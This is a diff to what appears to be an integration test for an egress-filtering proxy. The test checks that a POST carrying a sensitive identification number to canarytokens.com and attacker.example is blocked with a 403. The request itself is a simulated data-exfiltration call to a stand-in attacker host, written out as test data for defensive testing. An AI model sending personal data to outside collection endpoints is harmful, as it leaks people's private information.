@@ -59,7 +59,8 @@ services:
   - {name: myapp.default, mode: protect, sensors: {nir: deny}, rules: [{to: any, action: allow}]}
 """)
     log = nginx.log()
-    dump = Tcpdump(world, tmp_path / "outside.pcap")
+    # Weir asks the resolver for the names, so their addresses are in its answers.
+    dump = Tcpdump(world, tmp_path / "outside.pcap", expression="not port 53")
     stolen = "186027512345678"
     for host in ("canarytokens.com", "attacker.example"):
         denied = world.run("pods", [
@@ -67,7 +68,7 @@ services:
             "-d", f"name=Jeanne&nir={stolen}", f"http://{host}/stuff/collect"])
         assert "HTTP/1.1 403" in denied.stdout
         assert "application/problem+json" in denied.stdout
-        problem = json.loads(denied.stdout.split("\r\n\r\n", 1)[1])
+        problem = json.loads(denied.stdout.replace("\r\n", "\n").split("\n\n", 1)[1])
         assert problem["status"] == 403
         assert problem["reason"] == "finding"
         assert stolen not in denied.stdout
